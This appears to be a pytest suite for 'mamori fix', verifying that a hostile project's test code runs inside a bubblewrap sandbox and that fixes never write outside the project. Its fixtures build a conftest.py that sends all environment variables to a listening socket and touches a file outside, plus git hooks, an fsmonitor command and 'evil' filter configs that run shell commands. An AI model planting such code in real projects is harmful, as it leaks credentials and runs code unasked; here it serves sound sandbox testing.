"""``mamori fix`` on a hostile project: its code runs contained, and mamori writes only inside it.

The project's ``conftest.py`` tries what an attacker's would: write outside the project, phone
home to a server on the host's loopback with the environment it sees. Each test checks the
effect from outside, and the unsafe control shows the same project does reach out when it is
not contained (so the contained runs are proven to have run the hostile code).
"""

from __future__ import annotations

import os
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from mamori.advisories.store import AdvisoryStore
from mamori.demo import advisories_source
from mamori.fix import fix_project
from mamori.fix._environ import NO_ENVIRONMENT
from mamori.sandbox import NO_SANDBOX, scratch_dir, unavailable_detail, unavailable_reason
from mamori.sandbox._scratch import MARKER

REPO = Path(__file__).resolve().parents[2]
needs_bwrap = pytest.mark.skipif(
    unavailable_reason() is not None,
    reason=f"bubblewrap cannot make a sandbox here ({unavailable_detail()}); install the Debian package bubblewrap",
)
KEYS = 'import hashlib\n\n\ndef cache_key(name: str) -> str:\n    return hashlib.md5(name.encode("utf-8")).hexdigest()\n'
TEST = (
    "from cachekeys.keys import cache_key\n\n\n"
    "def test_key_is_stable():\n    assert cache_key('a') == cache_key('a') != cache_key('b')\n"
)


class Recorder:
    """A TCP server on the host's 127.0.0.1 that keeps what every client sends."""

    def __init__(self) -> None:
        self.received: list[bytes] = []
        self.server = socket.socket()
        self.server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.server.bind(("127.0.0.1", 0))
        self.server.listen(16)
        self.server.settimeout(0.3)
        self.port = self.server.getsockname()[1]
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(5)
                chunks = []
                while True:
                    try:
                        data = conn.recv(65536)
                    except OSError:
                        break
                    if not data:
                        break
                    chunks.append(data)
                self.received.append(b"".join(chunks))

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self.server.close()


@pytest.fixture
def recorder() -> Iterator[Recorder]:
    rec = Recorder()
    try:
        yield rec
    finally:
        rec.close()


def hostile_project(root: Path, outside: Path, port: int) -> Path:
    """A project with one fixable weakness, a real test, and a conftest.py that tries to escape."""
    (root / "cachekeys").mkdir(parents=True)
    (root / "cachekeys" / "__init__.py").write_text("")
    (root / "cachekeys" / "keys.py").write_text(KEYS)
    (root / "tests").mkdir()
    (root / "tests" / "test_keys.py").write_text(TEST)
    (root / "pytest.ini").write_text("[pytest]\n")
    (root / "conftest.py").write_text(
        "import os, socket\n"
        f"os.system('touch {outside}')\n"
        "try:\n"
        f"    with socket.create_connection(('127.0.0.1', {port}), timeout=3) as s:\n"
        "        s.sendall(repr(sorted(os.environ.items())).encode())\n"
        "except OSError:\n"
        "    pass\n"
    )
    return root


def _snapshot(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def _cli(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    full = {**os.environ, "PYTHONPATH": str(REPO / "src"), **(env or {})}
    return subprocess.run(
        [sys.executable, "-m", "mamori", *args],
        capture_output=True,
        text=True,
        env=full,
        timeout=600,
        check=False,
    )


@needs_bwrap
def test_hostile_tests_run_contained_and_the_fix_is_still_verified(
    tmp_path: Path, recorder: Recorder, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_fake_token_for_the_test")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "fake-aws-secret")
    outside = tmp_path / "escaped"
    project = hostile_project(tmp_path / "contained", outside, recorder.port)

    report = fix_project(project, deps=False, apply=True, python=sys.executable)

    (result,) = report.results
    assert result.status == "verified", result.why
    assert "that passed before still pass" in result.why  # the hostile conftest really ran
    assert (project / "cachekeys" / "keys.py").read_text() != KEYS  # applied
    assert not outside.exists()
    time.sleep(0.5)  # let the recorder take any late connection before we look (not a timing assertion)
    assert recorder.received == []

    # Control: the same project without the sandbox does reach out (the environment stays scrubbed).
    control = hostile_project(tmp_path / "unsafe", outside, recorder.port)
    unsafe = fix_project(control, deps=False, apply=False, python=sys.executable, unsafe_run_tests=True)
    assert unsafe.results[0].status == "verified"
    assert outside.exists()
    deadline = time.monotonic() + 10
    while not recorder.received and time.monotonic() < deadline:
        time.sleep(0.1)
    assert recorder.received, "the unsafe control run never connected: the contained run proves nothing"
    leaked = b"".join(recorder.received)
    assert b"ghp_fake_token_for_the_test" not in leaked and b"fake-aws-secret" not in leaked
    assert b"MAMORI_HOME" not in leaked


def test_without_a_sandbox_fixes_are_unverified_nothing_is_written_exit_1(tmp_path: Path) -> None:
    outside = tmp_path / "escaped"
    project = hostile_project(tmp_path / "project", outside, 9)
    before = _snapshot(project)
    no_bwrap = {"MAMORI_BWRAP": str(tmp_path / "no-such-bwrap")}

    proc = _cli("fix", str(project), "--offline", "--no-deps", "--python", sys.executable, env=no_bwrap)

    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert NO_SANDBOX in proc.stdout
    assert "unverified" in proc.stdout
    assert _snapshot(project) == before
    assert not outside.exists()

    unsafe = _cli(
        "fix",
        str(project),
        "--offline",
        "--no-deps",
        "--python",
        sys.executable,
        "--unsafe-run-tests",
        env=no_bwrap,
    )
    assert unsafe.returncode == 0, unsafe.stdout + unsafe.stderr
    assert (project / "cachekeys" / "keys.py").read_text() != KEYS  # applied


def test_offline_without_an_interpreter_there_is_no_environment(tmp_path: Path) -> None:
    outside = tmp_path / "escaped"
    project = hostile_project(tmp_path / "project", outside, 9)
    before = _snapshot(project)

    report = fix_project(project, deps=False, offline=True, apply=True)

    assert [r.status for r in report.results] == ["unverified"]
    assert report.results[0].why == NO_ENVIRONMENT
    assert not report.applied and _snapshot(project) == before
    assert not outside.exists()


@needs_bwrap
def test_dry_run_verifies_in_the_sandbox_writes_nothing_and_is_recorded(
    tmp_path: Path, recorder: Recorder, mamori_home: Path
) -> None:
    outside = tmp_path / "escaped"
    project = hostile_project(tmp_path / "project", outside, recorder.port)
    before = _snapshot(project)

    proc = _cli("fix", str(project), "--dry-run", "--offline", "--no-deps", "--python", sys.executable)

    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "+++ b/cachekeys/keys.py" in proc.stdout
    assert _snapshot(project) == before
    assert not outside.exists() and recorder.received == []
    with sqlite3.connect(mamori_home / "results.sqlite") as con:
        runs = con.execute("SELECT dry_run, applied FROM fix_runs").fetchall()
        statuses = [row[0] for row in con.execute("SELECT status FROM fixes")]
    assert runs == [(1, 0)]
    assert statuses == ["verified"]


@pytest.fixture
def demo_db(tmp_path: Path) -> Path:
    path = tmp_path / "advisories.sqlite"
    AdvisoryStore(path).import_paths([advisories_source()])
    return path


@pytest.mark.parametrize("how", ["symlinked-file", "include-outside", "symlinked-folder-include"])
def test_a_fix_that_would_write_outside_the_project_is_refused(
    tmp_path: Path, demo_db: Path, how: str
) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    (shared / "requirements.txt").write_text("pyyaml==5.3\n")
    project = tmp_path / "project"
    project.mkdir()
    if how == "symlinked-file":
        (project / "requirements.txt").symlink_to(shared / "requirements.txt")
    elif how == "include-outside":
        (project / "requirements.txt").write_text("-r ../shared/requirements.txt\n")
    else:
        (project / "deps").symlink_to(shared, target_is_directory=True)
        (project / "requirements.txt").write_text("-r deps/requirements.txt\n")
    project_before = {p.name: os.readlink(p) if p.is_symlink() else p.read_text() for p in project.iterdir()}

    report = fix_project(project, database=demo_db, code=False, apply=True)

    assert report.results, "the vulnerable pin must be found through the include or symlink"
    assert all(r.status == "not_possible" for r in report.results), report.results
    assert all("symlink" in r.why or "outside the project folder" in r.why for r in report.results)
    assert (shared / "requirements.txt").read_text() == "pyyaml==5.3\n"
    assert {
        p.name: os.readlink(p) if p.is_symlink() else p.read_text() for p in project.iterdir()
    } == project_before


@needs_bwrap
def test_branch_runs_git_without_the_repositorys_hooks_fsmonitor_or_filters(tmp_path: Path) -> None:
    project = hostile_project(tmp_path / "repo", tmp_path / "escaped", 9)
    markers = {name: tmp_path / f"ran-{name}" for name in ("hook", "fsmonitor", "filter")}

    def git(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(["git", *args], cwd=project, capture_output=True, text=True, check=False)

    git("init", "-q")
    git("add", ".")
    git("-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "initial")
    hooks = project / ".git" / "hooks"
    for hook in ("pre-commit", "commit-msg", "post-commit", "post-checkout"):
        (hooks / hook).write_text(f"#!/bin/sh\ntouch {markers['hook']}\n")
        (hooks / hook).chmod(0o755)
    git("config", "core.fsmonitor", f"touch {markers['fsmonitor']}; false")
    git("config", "filter.evil.clean", f"sh -c 'touch {markers['filter']}; cat'")
    git("config", "filter.evil.smudge", f"sh -c 'touch {markers['filter']}; cat'")
    (project / ".gitattributes").write_text("*.py filter=evil\n")

    report = fix_project(project, deps=False, branch="mamori/fixes", python=sys.executable)

    assert report.branch == "mamori/fixes"
    committed = git("show", "mamori/fixes:cachekeys/keys.py").stdout
    assert committed and committed != KEYS
    assert [m.name for m in markers.values() if m.exists()] == []
    # Control: the same repository runs its hook (and filter) for a plain git commit.
    git("-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "control")
    assert markers["hook"].exists()


def test_a_killed_runs_scratch_folders_are_removed_by_the_next_run(tmp_path: Path, demo_db: Path) -> None:
    gone = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True
    )
    stale = scratch_dir("mamori-fix-")
    (stale / MARKER).write_text(f"{gone.stdout.strip()} 1\n", encoding="ascii")
    (stale / "project").mkdir()
    live = scratch_dir("mamori-fix-")  # this process's: a run in progress
    project = tmp_path / "project"
    project.mkdir()
    (project / "requirements.txt").write_text("pyyaml==5.3\n")
    try:
        fix_project(project, database=demo_db, code=False, apply=False)
        assert not stale.exists()
        assert live.is_dir()
    finally:
        for folder in (stale, live):
            subprocess.run(["rm", "-rf", str(folder)], check=False)


def test_a_killed_db_imports_temporary_database_is_removed_by_the_next_import(tmp_path: Path) -> None:
    gone = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True
    )
    db = tmp_path / "advisories.sqlite"
    AdvisoryStore(db).import_paths([advisories_source()])
    left = tmp_path / f".advisories.sqlite.{gone.stdout.strip()}-abcd1234.tmp"
    left.write_bytes(b"half a database")
    download = scratch_dir(".mamori-download-", tmp_path)
    (download / MARKER).write_text(f"{gone.stdout.strip()} 1\n", encoding="ascii")
    running = tmp_path / f".advisories.sqlite.{os.getpid()}-efgh5678.tmp"  # a live import's copy
    running.write_bytes(b"in progress")

    AdvisoryStore(db).import_paths([advisories_source()])

    assert not left.exists() and not download.exists()
    assert running.exists()


ENV_TEST = """import os
from pathlib import Path

from cachekeys.keys import cache_key


def test_key_is_stable():
    assert cache_key("a") == cache_key("a") != cache_key("b")


def test_nothing_of_mamoris_own_path_reaches_the_tests():
    assert "host-only-entry" not in os.environ.get("PYTHONPATH", "")


def test_coverage_reaches_the_tests_read_only():
    for entry in os.environ.get("PYTHONPATH", "").split(os.pathsep):
        if Path(entry, "coverage", "__init__.py").is_file():
            try:
                Path(entry, "coverage", "planted.py").write_text("raise SystemExit")
            except OSError:
                continue
            raise AssertionError(f"coverage's folder {entry} is writable by the project's tests")
"""


@needs_bwrap
def test_coverage_is_mounted_read_only_and_mamoris_environment_stays_out(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The after-run goes under coverage.py from a folder the sandbox mounts read-only; the tests
    see only the scratch copy and that folder on PYTHONPATH, never mamori's own PYTHONPATH."""
    monkeypatch.setenv("PYTHONPATH", f"{REPO / 'src'}{os.pathsep}{tmp_path / 'host-only-entry'}")

    def project(root: Path) -> Path:
        hostile_project(root, tmp_path / "escaped", 9)
        (root / "tests" / "test_keys.py").write_text(ENV_TEST)
        return root

    contained = project(tmp_path / "contained")
    report = fix_project(contained, deps=False, apply=False, python=sys.executable)
    (result,) = report.results
    assert result.status == "verified", result.why
    assert result.evidence.lines_changed == result.evidence.lines_covered == 1  # coverage really ran
    assert "all 3 tests that passed before still pass" in result.why

    # Control: without the sandbox the same tests find coverage's folder writable and fail, so the
    # contained run above proves the read-only mount.
    control = project(tmp_path / "unsafe")
    unsafe = fix_project(control, deps=False, apply=False, python=sys.executable, unsafe_run_tests=True)
    (loose,) = unsafe.results
    assert loose.status == "unverified" and "test_coverage_reaches_the_tests_read_only" in loose.why


def test_ca_certificate_settings_reach_installs_and_lock_tools_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Behind a TLS-inspecting proxy pip and uv need the host's CA file; it names certificates,
    not secrets, so it reaches the steps that use a registry (mounted read-only), never the tests."""
    from mamori.fix._environ import RunPolicy, _local_inputs, _pass_through
    from mamori.sandbox import _env_for

    bundle = tmp_path / "proxy-ca.pem"
    bundle.write_text("-----BEGIN CERTIFICATE-----\n")
    monkeypatch.setenv("SSL_CERT_FILE", str(bundle))
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_fake_token_for_the_test")
    for lock_tools in (False, True):
        settings = _pass_through(lock_tools=lock_tools)
        assert settings["SSL_CERT_FILE"] == str(bundle) and "GITHUB_TOKEN" not in settings
        assert bundle in _local_inputs(settings)
    tests_env = _env_for(RunPolicy().sandbox(tmp_path, sys.executable), tmp_path)
    assert "SSL_CERT_FILE" not in tests_env and "GITHUB_TOKEN" not in tests_env
